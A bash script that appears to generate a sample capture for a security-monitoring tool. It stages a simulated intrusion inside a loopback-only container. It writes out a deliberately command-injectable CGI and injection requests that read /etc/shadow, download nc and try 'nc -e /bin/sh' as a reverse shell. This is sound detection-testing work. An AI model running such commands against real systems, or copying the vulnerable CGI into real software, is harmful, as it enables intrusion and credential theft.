#!/usr/bin/env bash
# Re-records the console's sample capture on this machine (root, runc, busybox-static):
# a busybox httpd in a runc container with Kubernetes annotations, a client in the same pod,
# then an intrusion through a command-injection CGI: a shell spawned by the server, a read of
# /etc/shadow, a download of a tool to /tmp, and that new binary trying a reverse connection.
# Everything stays inside the container's own network namespace (loopback only).
#   bash assets/record-sample.sh [output]     (default assets/sample-capture.jsonl.gz)
set -euo pipefail
cd "$(dirname "$0")/.."
out=${1:-assets/sample-capture.jsonl.gz}
bin=agent-bpf/.output/bin/tracehound-collector-x86_64
[ "$(id -u)" = 0 ] || { echo "record-sample.sh runs as root (collector, runc)" >&2; exit 3; }
[ -x "$bin" ] || make -s -C agent-bpf

work=$(mktemp -d /tmp/th-sample-XXXXXX)
id=web-$$
cleanup() {
  runc kill "$id" KILL 2>/dev/null || true
  runc delete -f "$id" 2>/dev/null || true
  [ -n "${collector:-}" ] && kill "$collector" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT
[ -n "${TH_DEBUG:-}" ] && set -x

# --- the container: busybox-static, an httpd with a vulnerable "diagnostics" CGI -------------
root=$work/bundle/rootfs
mkdir -p "$root"/{bin,etc,tmp,www/cgi-bin,www/tools}
cp /bin/busybox "$root/bin/busybox"
for a in sh httpd wget nc cat chmod id uname sed sleep ls ps; do ln -s busybox "$root/bin/$a"; done
printf 'root:x:0:0:root:/root:/bin/sh\nwww:x:33:33:www:/www:/bin/false\n' >"$root/etc/passwd"
printf 'root:$6$Zx1Q$Q8m2sample.hash.not.real:19700:0:99999:7:::\nwww:!:19700::::::\n' >"$root/etc/shadow"
chmod 600 "$root/etc/shadow"
echo '<h1>shop</h1>' >"$root/www/index.html"
cp /bin/busybox "$root/www/tools/nc"
cat >"$root/www/cgi-bin/diag" <<'CGI'
#!/bin/sh
echo "Content-Type: text/plain"
echo
cmd=$(echo "$QUERY_STRING" | sed 's/^cmd=//; s/%20/ /g; s/%2F/\//g; s/%3B/;/g; s/%2B/+/g')
sh -c "$cmd" 2>&1
CGI
chmod 755 "$root/www/cgi-bin/diag"
(cd "$work/bundle" && runc spec)
node -e '
const fs = require("fs"); const p = process.argv[1]; const c = JSON.parse(fs.readFileSync(p, "utf8"));
c.process.terminal = false;
c.process.args = ["httpd", "-f", "-p", "8080", "-h", "/www"];
c.root.readonly = false;
c.hostname = "web-6d8f7b9c5-x2k4p";
c.annotations = {
  "io.kubernetes.pod.name": "web-6d8f7b9c5-x2k4p",
  "io.kubernetes.pod.namespace": "shop",
  "io.kubernetes.pod.uid": "7f3c2a10-4b5e-4c1d-9a8e-2f6b1d0c9e44",
  "io.kubernetes.cri.sandbox-id": "9d1e6f2a7b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e",
  "io.kubernetes.cri.container-type": "container",
  "io.kubernetes.cri.image-name": "docker.io/library/busybox:1.36",
  "io.kubernetes.container.name": "web"
};
fs.writeFileSync(p, JSON.stringify(c, null, 2));' "$work/bundle/config.json"

# --- record: the collector follows this script and everything it starts ------------------------
raw=$work/raw.jsonl
"$bin" --pid $$ -o "$raw" 2>"$work/collector.err" &
collector=$!
for _ in $(seq 100); do grep -q '"kind":"hello"' "$raw" 2>/dev/null && break; sleep 0.1; done
grep -q '"kind":"hello"' "$raw" || { cat "$work/collector.err" >&2; exit 1; }

runc run -d --bundle "$work/bundle" "$id" </dev/null >"$work/httpd.log" 2>&1
sleep 1
get() { runc exec "$id" wget -q -O- "http://127.0.0.1:8080$1" >>"$work/client.log" 2>&1 || true; }
for _ in 1 2 3; do get /; sleep 0.3; done                     # a client doing normal requests
get '/cgi-bin/diag?cmd=id'                                      # probing the injection
sleep 0.5
get '/cgi-bin/diag?cmd=cat%20%2Fetc%2Fshadow'                   # credential theft
sleep 0.5
get '/cgi-bin/diag?cmd=wget%20-q%20-O%20%2Ftmp%2Fnc%20http:%2F%2F127.0.0.1:8080%2Ftools%2Fnc'  # download
sleep 0.5
get '/cgi-bin/diag?cmd=chmod%20%2Bx%20%2Ftmp%2Fnc%3B%20%2Ftmp%2Fnc%20-w%202%20127.0.0.1%204444%20-e%20%2Fbin%2Fsh'  # reverse shell attempt
sleep 0.5
get /
sleep 2                                                         # a stats and a syscall-set flush
runc kill "$id" TERM 2>/dev/null || true
sleep 0.5
runc delete -f "$id" 2>/dev/null || true
sleep 1.2
kill -TERM "$collector"
wait "$collector" || true
collector=

[ -n "${TH_DEBUG:-}" ] && cat "$work/client.log" "$work/httpd.log" >&2
rm -f "$out"
node --import tsx assets/write-capture.mts "$raw" "$out"
echo "$out: $(wc -l <"$raw") lines, $(stat -c %s "$out") bytes" >&2
